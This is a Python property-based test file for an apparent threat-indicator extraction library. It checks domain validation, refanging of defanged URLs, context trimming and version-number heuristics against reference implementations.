            assert is_valid_domain.__wrapped__(domain) == (psl.privatesuffix(domain) is not None), (
                domain
            )
            public = psl.publicsuffix(domain)
            assert _public_labels(domain) == (public.count(".") + 1 if public else 0), domain
    assert checked > 30000


_LABELS = [
    "a",
    "www",
    "evil",
    "x-y",
    "123",
    "-bad",
    "bad-",
    "co",
    "com",
    "uk",
    "jp",
    "kobe",
    "city",
    "ck",
    "www",
    "py",
    "zip",
    "sh",
    "xn--p1ai",
    "a" * 63,
    "a" * 64,
    "",
]


@settings(max_examples=500)
@given(st.lists(st.sampled_from(_LABELS), min_size=1, max_size=6).map(".".join))
def test_domain_checks_match_publicsuffixlist(domain: str) -> None:
    from generator.extract.domains import (
        FILE_EXTENSION_TLDS,
        _looks_like_code,
        _plain_domain,
        is_valid_domain,
    )

    psl = _psl_reference()
    shaped = bool(_HOSTNAME_SHAPE.fullmatch(domain))
    expected = shaped and len(domain) <= 253 and psl.privatesuffix(domain) is not None
    assert is_valid_domain.__wrapped__(domain) == expected
    if expected:
        suffix = psl.publicsuffix(domain) or ""
        file_like = "." not in suffix and suffix in FILE_EXTENSION_TLDS
        code = _looks_like_code(domain, domain.split("."))
        assert _plain_domain.__wrapped__(domain) == (None if file_like or code else domain)


_MARK_PIECES = [
    "[",
    "]",
    "(",
    ")",
    "{",
    "}",
    "\\",
    ".",
    "dot",
    "DOT",
    "at",
    "@",
    " ",
    "x",
    "X",
    "h",
    "f",
    "p",
    "s",
    ":",
    "/",
    "a",
    "d",
    "hxxp",
    "fxp",
    " dot ",
    "[.]",
    "(.)",
    "[://]",
    "[:]",
    "evil",
    "com",
]


@settings(max_examples=500)
@given(st.lists(st.sampled_from(_MARK_PIECES), max_size=25).map("".join))
def test_trigger_led_marker_scans_match_one_alternation(text: str) -> None:
    from generator.extract import refang as r

    def parts(rf: r.Refanged) -> tuple[object, ...]:
        return rf.text, rf.new_starts, rf.new_ends, rf.orig_starts, rf.orig_ends

    alternation = r._refang(text, r._MARKERS.finditer(text))
    assert alternation is not None
    assert parts(r.refang(text)) == parts(alternation)


@settings(max_examples=300)
@given(st.lists(st.sampled_from(_MARK_PIECES), max_size=25).map("".join))
def test_orig_span_maps_both_ends_like_orig_start_and_orig_end(text: str) -> None:
    from generator.extract.refang import refang

    rf = refang(text)
    for start in range(len(rf.text) + 1):
        for end in range(start, len(rf.text) + 1):
            assert rf.orig_span(start, end) == (rf.orig_start(start), rf.orig_end(end))


def test_refang_rejects_overlapping_matches() -> None:
    from generator.extract.refang import _refang

    text = "abc"
    first, second = re.match("ab", text), re.compile("bc").search(text)
    assert first is not None and second is not None
    assert _refang(text, [first, second]) is None


@settings(max_examples=500)
@given(st.text(alphabet=" \t\n\r\x0b\x0c\x1c\x1f\x85\xa0\u2028\u3000\u200bab\x00é", max_size=30))
def test_collapse_matches_whitespace_regex(value: str) -> None:
    from generator.extract.context import _collapse

    assert _collapse(value) == re.sub(r"\s+", " ", value)


def _fit_by_pieces(text: str, start: int, end: int, seg_start: int, seg_end: int) -> str:
    """Context fitting done the plain way: collapse each piece, then cut around the IOC."""

    def collapse(value: str) -> str:
        return re.sub(r"\s+", " ", value)

    before = collapse(text[seg_start:start]).lstrip()
    ioc = collapse(text[start:end])
    after = collapse(text[end:seg_end]).rstrip()
    if len(before) + len(ioc) + len(after) <= 300:
        return before + ioc + after
    if len(ioc) >= 300:
        return ioc[:299] + "…"
    budget = 300 - len(ioc) - 2
    left = min(len(before), max(budget // 2, budget - len(after)))
    right = min(len(after), budget - left)
    head = ("…" + before[len(before) - left :]) if left < len(before) else before
    tail = (after[:right] + "…") if right < len(after) else after
    return head + ioc + tail


@settings(max_examples=500)
@given(st.text(alphabet="ab .\t\n\xa0\x00  ", max_size=700), st.data())
def test_fit_matches_piecewise_collapse(text: str, data: st.DataObject) -> None:
    from generator.extract.context import _fit

    seg_start, start, end, seg_end = sorted(
        data.draw(st.lists(st.integers(0, len(text)), min_size=4, max_size=4))
    )
    assert _fit(text, start, end, seg_start, seg_end) == _fit_by_pieces(
        text, start, end, seg_start, seg_end
    )


_VERSION_PIECES = ["v", "V", "v.", "ver", "Ver.", "version", "BUILD", "release", "firmware",
                   "revision", "rev", "rev.", "server", "the", "at", "on", ":", "#", "=", ",",
                   " ", "  ", "\t", "\xa0", "\u2028", "x", "1.2.3.4", "(", "é"]  # fmt: skip


@settings(max_examples=500)
@given(st.lists(st.sampled_from(_VERSION_PIECES), max_size=8).map("".join), st.data())
def test_version_before_matches_regex(text: str, data: st.DataObject) -> None:
    from generator.extract.match import _VERSION_BEFORE, _version_before

    start = data.draw(st.integers(0, len(text)))
    expected = _VERSION_BEFORE.search(text, max(0, start - 12), start) is not None
    assert _version_before(text, start) == expected


@settings(max_examples=500)
@given(st.text(alphabet="a_9/\\\\ .-é٣\u2028", max_size=4))
def test_pathish_matches_regex(before: str) -> None:
    from generator.extract.domains import _pathish

    assert _pathish(before) == (re.search(r"(?:\w/|\\)\Z", before) is not None)


CODE_WORDS = [
    "package", "packages", "module", "modules", "class", "classes", "namespace", "namespaces",
    "library", "libraries", "plugin", "plugins", "import", "imports", "method", "methods",
    "function", "functions", "resource", "resources",
]  # fmt: skip
VERSION_WORDS = ["version", "versions", "ver", "build", "builds", "player", "players",
                 "release", "releases", "firmware"]  # fmt: skip


@pytest.mark.parametrize("word", CODE_WORDS)
def test_every_code_word_passes_the_cheap_pre_test(word):
    """The code-clause check decides most text by substring tests before its regex; a code word
    the pre-test missed would let ``module.member`` names through as domains."""
    from generator.extract.code_context import _CODE_STEMS, _CODE_WORDS, _in_code_clause

    assert _CODE_WORDS.fullmatch(word)
    assert any(stem in word for stem in _CODE_STEMS)
    for shown in (word, word.upper(), word.capitalize()):
        text = f"It calls the {shown} "
        assert _in_code_clause(text, len(text)), shown
    assert not _in_code_clause("It calls the server ", len("It calls the server "))


@pytest.mark.parametrize("word", VERSION_WORDS)
def test_every_version_word_passes_the_cheap_pre_test(word):
    """A quad with a first number above 30 is a version only right after a version word; the
    words are found by substring tests first, so each must pass them."""
    from generator.extract.match import _VERSION_LEAD_STEMS, _in_version_clause

    assert any(stem in word for stem in _VERSION_LEAD_STEMS)
    for shown in (word, word.upper(), word.capitalize()):
        text = f"Fixed in {shown} 44.0.2.7 today"
        start = text.index("44.")
        assert _in_version_clause(text, start, start + len("44.0.2.7"), "44.0.2.7"), shown
    text = "It connects to 44.0.2.7 today"
    start = text.index("44.")
    assert not _in_version_clause(text, start, start + len("44.0.2.7"), "44.0.2.7")
